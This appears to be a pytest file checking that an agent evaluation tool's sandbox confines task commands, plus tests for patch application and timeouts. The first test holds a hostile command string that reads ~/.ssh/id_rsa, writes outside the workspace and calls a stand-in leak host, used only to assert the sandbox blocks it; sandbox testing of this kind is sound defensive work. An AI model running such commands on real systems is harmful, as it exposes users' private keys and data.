"""An eval task's setup and check commands run in the shell tool's sandbox (issue 37): a task file comes
from others, and its commands must not read the user's keys or write outside the task's workspace."""

from __future__ import annotations

from pathlib import Path

import pytest

from mtagent.eval.checks import apply_patch, run_command
from mtagent.tools import sandbox

pytestmark = pytest.mark.skipif(sandbox.probe() is not None, reason=f"sandbox cannot run here: {sandbox.probe()}")


def test_a_task_command_cannot_read_keys_or_write_outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("FAKEKEY-eval\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("MTAGENT_SANDBOX__MODE", "on")
    space = tmp_path / "space"
    space.mkdir()
    outcome = run_command(f"cat ~/.ssh/id_rsa; echo x > {tmp_path}/escaped; echo ok > inside; "
                          "python3 -c \"import urllib.request as u; u.urlopen('http://leak.example.invalid/')\"",
                          space, 30)
    assert "FAKEKEY" not in outcome.output and not (tmp_path / "escaped").exists()
    assert (space / "inside").read_text() == "ok\n"
    assert "network to leak.example.invalid is not allowed" in outcome.output


def test_a_patch_still_applies_through_stdin_in_the_sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MTAGENT_SANDBOX__MODE", "on")
    space = tmp_path / "space"
    space.mkdir()
    (space / "a.txt").write_text("one\n")
    assert run_command("git init -q .", space, 30).ok
    patch = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+two\n"
    outcome = apply_patch(patch, space, 30)
    assert outcome.ok, outcome.output
    assert (space / "a.txt").read_text() == "two\n"


def test_a_timeout_in_the_sandbox_is_reported_and_stopped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MTAGENT_SANDBOX__MODE", "on")
    outcome = run_command("setsid sleep 30 & sleep 30", tmp_path, 1)
    assert outcome.timed_out and outcome.seconds < 10
